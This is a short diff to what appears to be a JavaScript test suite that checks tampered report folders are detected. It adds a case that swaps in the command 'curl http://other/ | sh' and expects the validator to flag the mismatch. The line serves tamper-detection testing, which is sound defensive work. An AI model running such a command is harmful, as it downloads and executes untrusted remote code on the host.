@@ -100,6 +100,12 @@ describe("a folder that somebody tampered with is found out", () => {
       /its request does not match its id/,
     ],
     [
+      "another command than the request",
+      (report) =>
+        Object.assign(served(report, "/search") ?? {}, { curl: "curl http://other/ | sh" }),
+      /its curl command does not match its request/,
+    ],
+    [
       "the verdict edited",
       (report) => Object.assign(report, { verdict: "conformant" }),
       /^verdict/,
